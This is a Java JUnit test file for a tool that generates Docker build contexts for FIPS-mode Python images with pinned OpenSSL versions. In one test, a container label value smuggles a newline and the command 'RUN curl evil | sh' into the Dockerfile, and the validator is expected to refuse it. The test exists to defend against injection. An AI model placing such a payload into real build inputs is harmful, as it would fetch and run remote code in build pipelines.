package dev.pythonfips.model;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class GeneratorTest {

    @TempDir
    Path tmp;

    private Generator.Result generate(FipsSpec spec, Path out) throws Exception {
        return new Generator().generate(Specs.planner().plan(spec), out, SourceProvider.deferred(), m -> { });
    }

    @Test
    void writesOneSelfContainedContextPerCellAndMatrixJson() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.seedMatrix(), out);
        JsonNode matrix = new ObjectMapper().readTree(out.resolve("matrix.json").toFile());
        assertThat(matrix.path("cells")).hasSize(6);
        JsonNode first = matrix.path("cells").get(2);
        assertThat(first.path("id").asText()).isEqualTo("3.11.9-rocky9-openssl3.0.9");
        assertThat(first.path("python").asText()).isEqualTo("3.11.9");
        assertThat(first.path("distro").asText()).isEqualTo("rocky9");
        assertThat(first.path("openssl").asText()).isEqualTo("3.0.9");
        assertThat(first.path("fipsProvider").asText()).isEqualTo("3.0.9");
        assertThat(first.path("platforms").toString()).isEqualTo("[\"linux/amd64\",\"linux/arm64\"]");
        assertThat(first.path("image").asText()).isEqualTo("python-fips:3.11.9-rocky9-openssl3.0.9");
        assertThat(first.path("contextDir").asText()).isEqualTo("3.11.9-rocky9-openssl3.0.9");

        Path ctx = out.resolve("3.11.9-rocky9-openssl3.0.9");
        for (String f : List.of("Dockerfile", "cell.env", "openssl.cnf", "manifest.json", "scripts/packages.sh",
                "scripts/build-python.sh", "scripts/build-openssl.sh", "scripts/build-fips-module.sh",
                "conformance/conformance.py", "patches/python-fips.patch", "sources/SHA256SUMS", "sources/URLS", "fetch-sources.sh")) {
            assertThat(ctx.resolve(f)).as(f).isRegularFile();
        }
        // every file the Dockerfile COPYs is in the context
        for (String line : Files.readAllLines(ctx.resolve("Dockerfile"))) {
            if (line.startsWith("COPY ") && !line.startsWith("COPY --from")) {
                String[] parts = line.substring(5).trim().split("\\s+");
                for (int i = 0; i < parts.length - 1; i++) {
                    if (!parts[i].startsWith("sources/Python-") && !parts[i].startsWith("sources/openssl")) {
                        assertThat(ctx.resolve(parts[i])).as("COPY source " + parts[i]).exists();
                    }
                }
            }
        }
        assertThat(Files.readString(ctx.resolve("patches/python-fips.patch")))
                .isEqualTo(ContextRenderer.patch(Version.parse("3.11.9")));
        assertThat(Files.readString(ctx.resolve("sources/SHA256SUMS")))
                .contains("  Python-3.11.9.tar.xz\n").contains("  openssl-3.0.9.tar.gz\n");
        assertThat(Files.readString(ctx.resolve("cell.env")))
                .contains("PYFIPS_PYTHON_VERSION='3.11.9'").contains("PYFIPS_SEPARATE_PROVIDER='no'");
    }

    @Test
    void legacyCellsBuildTheFipsObjectModuleWithTheCanonicalCommands() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.seedMatrix(), out);
        Path ctx = out.resolve("3.9.19-rocky9-openssl1.0.2u-fips2.0.16");
        assertThat(Files.readString(ctx.resolve("sources/SHA256SUMS"))).contains("  openssl-fips-2.0.16.tar.gz\n");
        assertThat(Files.readString(ctx.resolve("openssl.cnf"))).contains("fips_mode = yes").doesNotContain("providers");
        JsonNode manifest = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile());
        assertThat(manifest.path("fips").path("kind").asText()).isEqualTo("fips-object-module-2");
        assertThat(manifest.path("fips").path("buildCommands").toString())
                .isEqualTo("[\"gunzip -c openssl-fips-2.0.16.tar.gz | tar xf -\",\"cd openssl-fips-2.0.16\",\"./config\",\"make\",\"make install\"]");
        assertThat(manifest.path("fips").path("tarballModified").asBoolean()).isFalse();
        assertThat(manifest.path("fips").path("source").path("sha256").asText()).hasSize(64);
    }

    @Test
    void sameSpecGivesByteIdenticalOutput() throws Exception {
        Path a = tmp.resolve("a/fips");
        Path b = tmp.resolve("b/fips");
        generate(Specs.seedMatrix(), a);
        generate(Specs.seedMatrix(), b);
        assertThat(snapshot(a)).isEqualTo(snapshot(b));
        generate(Specs.seedMatrix(), a); // regenerating over an existing tree
        assertThat(snapshot(a)).isEqualTo(snapshot(b));
    }

    @Test
    void aFailureLeavesThePreviousOutputUntouchedAndNoStagingBehind() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.seedMatrix(), out);
        Map<String, String> before = snapshot(out);
        SourceProvider failing = new SourceProvider() {
            @Override
            public void prepare(Release release) throws FipsConfigException {
                throw new FipsConfigException(new Problem("python " + release.version(), "SHA-256 mismatch", "fix it"));
            }

            @Override
            public boolean place(Release release, Path target) {
                return false;
            }
        };
        assertThatThrownBy(() -> new Generator().generate(Specs.planner().plan(Specs.seedMatrix()), out, failing, m -> { }))
                .isInstanceOf(FipsConfigException.class).hasMessageContaining("SHA-256 mismatch");
        assertThat(snapshot(out)).isEqualTo(before);
        try (Stream<Path> s = Files.list(tmp)) {
            assertThat(s.map(p -> p.getFileName().toString())).containsExactly("fips");
        }
    }

    @Test
    void policyDecidesWhetherTheDefaultProviderIsLoaded() throws Exception {
        for (String policy : List.of("strict", "allow-non-security")) {
            Path out = tmp.resolve(policy);
            FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.11.9", "debian12", "3.0.9", "3.0.9")), List.of(), null,
                    Map.of(), Specs.options(policy, null, false), List.of());
            generate(s, out);
            String cnf = Files.readString(out.resolve("3.11.9-debian12-openssl3.0.9/openssl.cnf"));
            assertThat(cnf).contains("fips = fips_sect").contains("base = base_sect").contains("default_properties = fips=yes")
                    .contains(".include /opt/python-fips/ssl/fipsmodule.cnf");
            if (policy.equals("strict")) {
                assertThat(cnf).doesNotContain("default = default_sect");
            } else {
                assertThat(cnf).contains("default = default_sect").contains("[default_sect]\nactivate = 1");
            }
        }
    }

    @Test
    void extraLabelsAndCryptographyReachTheContext() throws Exception {
        FipsSpec.Options o = new FipsSpec.Options(null, null, null, false, "44.0.3", "file:///wheelhouse", null, false, null, null);
        FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.13.5", "debian13", "3.1.2", "3.1.2")), List.of(), null,
                Map.of(), o, List.of(), Map.of("com.example.team", "payments"));
        Path out = tmp.resolve("fips");
        generate(s, out);
        Path ctx = out.resolve("3.13.5-debian13-openssl3.1.2");
        String dockerfile = Files.readString(ctx.resolve("Dockerfile"));
        assertThat(dockerfile).contains(" com.example.team=\"payments\"").contains("RUN sh /fips/scripts/build-cryptography.sh");
        assertThat(Files.readString(ctx.resolve("cell.env"))).contains("PYFIPS_CRYPTOGRAPHY='44.0.3'")
                .contains("PYFIPS_PIP_INDEX_URL='file:///wheelhouse'");
        // the Rust toolchain is installed in the build stage only
        assertThat(Files.readString(ctx.resolve("scripts/packages.sh"))).contains("PKGS_rust='cargo rustc'");
        assertThat(Files.readString(ctx.resolve("scripts/stage-packages.sh")))
                .contains("build) pkgs=\"$PKGS_build\"; [ -n \"${PYFIPS_CRYPTOGRAPHY:-}\" ] && pkgs=\"$pkgs $PKGS_rust\"");
        assertThat(Files.readString(ctx.resolve("scripts/build-cryptography.sh")))
                .contains("OPENSSL_DIR=\"$P\"").contains("--no-binary cryptography");
        JsonNode manifest = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile());
        assertThat(manifest.path("labels").path("com.example.team").asText()).isEqualTo("payments");
        assertThat(manifest.path("cryptography").asText()).isEqualTo("44.0.3");
    }

    @Test
    void labelsThatCouldBreakTheDockerfileAreRefused() {
        FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.13.5", "debian13", "3.1.2", "3.1.2")), List.of(), null,
                Map.of(), FipsSpec.Options.defaults(), List.of(),
                Map.of("com.example.x", "a\"\nRUN curl evil | sh", "dev.pythonfips.fips.validated", "true"));
        assertThatThrownBy(() -> Specs.planner().plan(s)).isInstanceOf(FipsConfigException.class)
                .satisfies(e -> assertThat(((FipsConfigException) e).problems()).extracting(Problem::element)
                        .containsExactlyInAnyOrder("<labels><com.example.x>", "<labels><dev.pythonfips.fips.validated>"));
    }

    static Map<String, String> snapshot(Path root) throws IOException {
        Map<String, String> files = new TreeMap<>();
        List<Path> all = new ArrayList<>();
        try (Stream<Path> s = Files.walk(root)) {
            s.filter(Files::isRegularFile).forEach(all::add);
        }
        for (Path p : all) {
            files.put(root.relativize(p).toString(), Files.readString(p));
        }
        return files;
    }
}
